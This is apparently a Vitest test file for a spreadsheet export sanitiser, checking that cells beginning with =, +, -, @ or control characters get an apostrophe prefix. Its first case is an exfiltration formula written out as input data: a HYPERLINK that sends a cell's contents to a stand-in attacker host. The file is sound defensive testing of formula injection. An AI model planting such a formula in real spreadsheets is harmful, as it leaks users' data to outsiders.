import { describe, expect, it } from 'vitest';
import { neutraliseAnyCell, neutraliseCell } from './spreadsheet';

describe('neutraliseCell', () => {
  it('puts an apostrophe before text that a spreadsheet would run', () => {
    expect(['=HYPERLINK("https://evil.example/?leak="&B5,"Refresh")', '+1', '-2', '@SUM(A1)', '\t=1', '\r=1'].map(neutraliseCell)).toEqual([
      '\'=HYPERLINK("https://evil.example/?leak="&B5,"Refresh")',
      "'+1",
      "'-2",
      "'@SUM(A1)",
      "'\t=1",
      "'\r=1",
    ]);
  });

  it('keeps other text, numbers and empty cells as they are', () => {
    expect(['Plain', 'a=b', ' =1', '', "'=1"].map(neutraliseCell)).toEqual(['Plain', 'a=b', ' =1', '', "'=1"]);
    expect([-5, 0, 12, null].map(neutraliseAnyCell)).toEqual([-5, 0, 12, null]);
    expect(neutraliseAnyCell('-5')).toBe("'-5");
  });
});
